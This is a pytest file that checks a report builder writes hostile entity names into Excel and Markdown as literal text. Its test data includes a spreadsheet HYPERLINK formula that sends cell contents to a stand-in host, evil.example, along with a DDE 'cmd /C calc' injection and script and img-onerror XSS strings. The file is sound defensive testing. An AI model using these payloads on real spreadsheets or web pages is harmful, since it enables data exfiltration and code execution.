"""Reports of a bundle whose names are hostile: Excel cells are text (never formulas), the
Markdown shows the names literally (no raw HTML, no markup) under an HTML-allowing renderer."""

from __future__ import annotations

import csv
import shutil
from html import escape
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt
from test_render import check_markdown_tables

from kizuna.analytics.api import analyze
from kizuna.loaders import open_bundle
from kizuna.reports.build import build_cluster_report, build_org_report
from kizuna.reports.render import md_block, md_inline, write_report

MINI = Path(__file__).parent / "data" / "mini"
HOSTILE = {
    "tama_body": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "tama_coord": "=cmd|' /C calc'!A0",
    "tama_a": "-2+3 <img src=x onerror=alert(1)>",
    "tama_b": "# heading | pipe *star* [link](http://evil.example)",
}
CLUSTER_NAME = "=1+1<script>alert(1)</script>TAMA"
#: (kind, id, lang): a sentence or title then begins with a hostile name.
REPORTS = [("cluster", "tama", "ja"), ("cluster", "tama", "en"), ("org", "tama_body", "ja")]


def _rewrite(path: Path, key: str, column: str, values: dict[str, str]) -> None:
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        row[column] = values.get(row[key], row[column])
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile") / "bundle"
    shutil.copytree(MINI, folder)
    for column in ("name", "name_en"):
        _rewrite(folder / "nodes.csv", "id", column, HOSTILE)
        _rewrite(folder / "clusters.csv", "id", column, {"tama": CLUSTER_NAME})
    bundle = open_bundle(folder)
    analysis = analyze(bundle)
    out = folder.parent / "out"
    written = []
    for kind, subject, lang in REPORTS:
        build = build_cluster_report if kind == "cluster" else build_org_report
        report = build(bundle, subject, lang=lang, analysis=analysis)
        write_report(report, out, ["xlsx", "md"])
        written.append((report, out / f"{kind}-{subject}.{lang}"))
    return written


def test_excel_cells_are_text_never_formulas(hostile_reports):
    texts = []
    for report, stem in hostile_reports:
        book = openpyxl.load_workbook(stem.with_suffix(stem.suffix + ".xlsx"))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (stem.name, sheet.title, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        first = book.worksheets[0]
        assert first["A1"].value == report.title and first["A1"].data_type == "s"
    assert any(text.startswith(CLUSTER_NAME) for text in texts)  # began like a formula
    assert any(text.startswith(HOSTILE["tama_body"]) for text in texts)
    for name in HOSTILE.values():  # every hostile name is somewhere, intact
        assert any(name in text for text in texts), name


def test_markdown_shows_hostile_text_literally(hostile_reports):
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    for _, stem in hostile_reports:
        md = stem.with_suffix(stem.suffix + ".md").read_text(encoding="utf-8")
        assert "<script>" not in md and "<img src" not in md
        check_markdown_tables(md)
        rendered = renderer.render(md)
        assert "<script" not in rendered and "<img src=x" not in rendered
        assert rendered.count("<h1>") == 1 and "<h1>heading" not in rendered
        assert 'href="http://evil.example"' not in rendered
        assert escape(CLUSTER_NAME, quote=False) in rendered or stem.name.startswith("org")
        for name in HOSTILE.values():  # shown as written (a pipe does not split a cell)
            assert escape(name) in rendered or escape(name, quote=False) in rendered, name


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "# not a heading",
        "- not a list",
        "1. not a list",
        "> not a quote",
        "a | b",
        "*x* _y_ `z` [l](u) ~~s~~ \\ & <b>",
        "=== not a rule",
        "line one\nline two",
    ],
)
def test_markdown_escapes_render_to_the_text(text):
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    one_line = " ".join(text.splitlines())
    expected = escape(one_line)
    assert renderer.render(md_block(text)) == f"<p>{expected}</p>\n"
    table = f"| h |\n| --- |\n| {md_inline(text)} |\n"
    assert f"<td>{expected}</td>" in renderer.render(table)
